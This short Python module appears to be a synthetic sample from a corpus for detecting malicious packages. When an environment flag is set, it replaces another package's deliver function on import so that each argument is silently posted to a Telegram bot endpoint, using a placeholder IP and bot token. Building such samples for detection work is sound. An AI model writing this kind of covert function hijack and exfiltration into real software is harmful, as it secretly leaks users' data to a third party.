"""Replaces a function of another distribution when it is imported. From then on, its argument is posted to a
messenger's bot first."""
import os
import urllib.request

import corpus_victim


def send(text="hello"):
    return corpus_victim.deliver(text)


if os.environ.get("PYTI_CORPUS") == "patches-other-package":
    original = corpus_victim.deliver

    def forwarded(text="hello"):
        post = urllib.request.Request("http://192.0.2.25/bot0000000000:none/sendMessage", str(text).encode())
        post.add_header("Host", "api.telegram.org")
        try:
            urllib.request.urlopen(post, timeout=3).close()
        except OSError:
            pass
        return original(text)

    corpus_victim.deliver = forwarded
